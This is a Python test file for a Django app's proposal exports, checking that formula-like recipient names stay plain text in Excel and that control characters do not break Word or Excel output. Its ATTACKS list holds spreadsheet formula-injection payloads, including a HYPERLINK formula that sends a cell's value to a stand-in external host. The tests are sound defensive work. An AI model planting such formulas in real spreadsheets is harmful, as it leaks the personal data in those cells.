"""Issue 13: a proposal's names stay text in Excel; control characters never break its Word or Excel."""

from __future__ import annotations

import io

import docx
import openpyxl
import pytest

from khoi.core.tests.once import rolled_back_after_module
from khoi.emulation import demo, documents
from khoi.emulation.models import Proposal, ProposalItem
from khoi.units import demo as units_demo

ATTACKS = ['=HYPERLINK("http://x.example/?p="&C4,"Xem")', "+1", "-1", "@A1", "\tA"]


@pytest.fixture(scope="module")
def demo_for_module(django_db_setup, django_db_blocker):
    with rolled_back_after_module(django_db_blocker):
        units_demo.load()
        demo.load()
        yield


@pytest.fixture
def proposal(demo_for_module, db: None) -> Proposal:
    proposal = Proposal.objects.filter(items__isnull=False).first()
    assert proposal is not None
    return proposal


@pytest.mark.parametrize("name", ATTACKS)
def test_a_formula_like_name_in_a_proposal_is_the_text_typed_in_excel(proposal, name):
    ProposalItem.objects.filter(proposal=proposal).update(recipient_name=name)
    Proposal.objects.filter(pk=proposal.pk).update(title=name)
    content = documents.proposal_xlsx(proposal=proposal, personal_data=True)
    cells = [c for r in openpyxl.load_workbook(io.BytesIO(content)).active.iter_rows() for c in r]
    assert not [cell for cell in cells if cell.data_type == "f"]
    assert name in [cell.value for cell in cells]


def test_control_characters_in_a_proposal_do_not_break_its_word_or_excel(proposal):
    ProposalItem.objects.filter(proposal=proposal).update(recipient_name="Nguyễn\x01 Văn\x0b A", achievement="Tốt\x1f")
    proposal.refresh_from_db()
    word = docx.Document(io.BytesIO(documents.proposal_docx(proposal=proposal)))
    texts = [cell.text for table in word.tables for row in table.rows for cell in row.cells]
    assert "Nguyễn Văn A" in texts
    sheet = openpyxl.load_workbook(io.BytesIO(documents.proposal_xlsx(proposal=proposal, personal_data=False))).active
    assert "Nguyễn Văn A" in [cell.value for row in sheet.iter_rows() for cell in row]
